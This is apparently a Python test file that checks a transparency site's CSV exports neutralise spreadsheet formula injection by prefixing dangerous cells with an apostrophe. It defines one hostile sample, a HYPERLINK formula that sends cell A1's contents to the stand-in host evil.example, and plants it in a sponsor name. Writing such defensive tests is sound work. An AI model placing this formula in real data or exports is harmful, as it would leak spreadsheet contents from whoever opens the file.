"""CSV exports escape spreadsheet formulas: a name like `=HYPERLINK(…)` arrives as text."""

from __future__ import annotations

import csv
import io

from market.sql import execute
from opendata.transparency_rules import spreadsheet_cell
from tests.transparency_builders import funded_project

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_cells_that_would_run_as_formulas_get_an_apostrophe() -> None:
    for text in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\r=1"):
        assert spreadsheet_cell(text) == "'" + text
    for value in ("-12.50", "300.00", "plain", "", 42, "a=b"):
        assert spreadsheet_cell(value) == value


async def test_a_sponsor_named_like_a_formula_is_text_in_the_ledger_csv(client, frozen_clock):
    built = await funded_project(frozen_clock)
    await execute(
        "UPDATE market_organization SET name_zh = {}, name_en = {} WHERE kind = 'company'",
        FORMULA,
        FORMULA,
    )
    response = await client.get(f"/projects/{built.tender_id}/transfers.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and "(" in c)]
